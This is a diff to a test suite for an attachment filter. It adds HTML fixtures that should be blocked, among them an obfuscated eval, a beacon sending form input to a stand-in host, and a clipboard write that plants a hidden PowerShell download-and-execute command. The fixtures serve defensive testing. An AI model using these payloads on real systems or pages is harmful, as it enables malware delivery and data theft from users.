@@ -243,6 +243,14 @@ describe('R-101 R-102 hostile attachments are stopped', () => {
     ['a.html', '<html><script>self["loc"+"ation"]["hr"+"ef"]="https:"+"//host.example"</script></html>'],
     ['a.html', '<html><form id=f action="https://host.example/"></form><script>f.submit()</script></html>'],
     ['a.html', '<html><a id=a href="https://host.example/"></a><script>a.click()</script></html>'],
+    ['a.html', "<html><script>[].constructor.constructor(atob('YWxlcnQoMSk='))()</script></html>"],
+    ['a.html', "<html><script type=module>import x from 'https://host.example/a.js'</script></html>"],
+    ['a.html', '<html><input id=x><script>navigator.sendBeacon("https://host.example/", x.value)</script></html>'],
+    ['a.html', '<html><embed src="data:image/svg+xml,%3Csvg onload=run()%3E"></html>'],
+    [
+      'a.html',
+      `<html><p>${long}</p><script>navigator.clipboard.writeText("powershell -w hidden -c iwr https://host.example|iex")</script></html>`,
+    ],
     ['a.html', '<html><applet code="a.class"></applet></html>'],
     // PDF.
     ['a.pdf', open('/S /L#61unch /F <636d642e657865>')],
@@ -277,6 +285,7 @@ describe('R-101 R-102 what looks like them goes through', () => {
     ],
     ['plan.docx', zipOf(packageOf('plan'))],
     ['a.html', `<html><p>${long}</p><a href="https://host.example/">on</a><script>menu.click()</script></html>`],
+    ['a.html', `<html><p>${long}</p><script>navigator.clipboard.writeText(code.innerText)</script></html>`],
     ['a.html', '<html><p>hello</p><img src="//host.example/a.png"><img src="file:///C:/a.png"></html>'],
     ['print.ps', '%!PS\n(through a pipe) show\n'],
     ['plan.docx', letterWith({ image: '!file:///C:/pictures/a.png', hyperlink: '!https://host.example/' })],
